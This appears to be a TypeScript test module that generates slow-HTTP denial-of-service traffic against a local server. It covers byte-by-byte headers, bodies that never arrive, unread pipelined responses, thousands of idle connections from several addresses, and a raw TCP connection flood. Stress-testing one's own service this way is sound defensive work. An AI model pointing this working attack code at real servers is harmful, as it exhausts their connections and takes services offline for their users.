import { type Attack, every, keepOpen } from './attack.ts';

/** Request heads sent one byte at a time. */
export const slowHeads: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 250 }, (socket, tally) => {
    socket.resume();
    socket.write('GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
    every(500, socket, () => {
      tally.sent++;
      socket.write('a');
    });
  });

/** POSTs whose announced body never arrives. */
export const slowBodies: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 500 }, (socket, tally) => {
    socket.resume();
    tally.sent++;
    socket.write('POST /api/v1/auth/sign-in HTTP/1.1\r\nHost: localhost\r\n');
    socket.write('Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{');
  });

/** Requests one document repeatedly and reads none of the responses. */
export const slowReaders: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 100 }, (socket, tally) => {
    socket.pause();
    const request = 'GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: identity\r\n\r\n';
    const ask = (): void => {
      tally.sent += 8;
      socket.write(request.repeat(8));
    };
    ask();
    every(options.repeatMs ?? 20_000, socket, ask);
  });

/** 5,000 connections from five addresses, each idle except for one request a minute. */
export const idleConnections: Attack = async (options) => {
  const { connectionsPerSecond, from = '127.0.0.1' } = options;
  const network = from.slice(0, from.lastIndexOf('.') + 1);
  const first = Number(from.slice(network.length));
  const pace = connectionsPerSecond === undefined ? {} : { connectionsPerSecond: connectionsPerSecond / 5 };
  await Promise.all(
    [0, 1, 2, 3, 4].map((host) =>
      keepOpen(
        { ...options, ...pace, from: `${network}${first + host}` },
        { protocol: 'http/1.1', count: 1_000 },
        (socket, tally) => {
          socket.resume();
          const ask = (): void => {
            tally.sent++;
            socket.write('GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\nIf-None-Match: *\r\n\r\n');
          };
          ask();
          every(60_000, socket, ask);
        },
      ),
    ),
  );
};

/** More connections than one address may have, none of which starts TLS. */
export const connectionFlood: Attack = (options) =>
  keepOpen(options, { protocol: 'tcp', count: 3_000 }, (socket) => {
    socket.resume();
  });
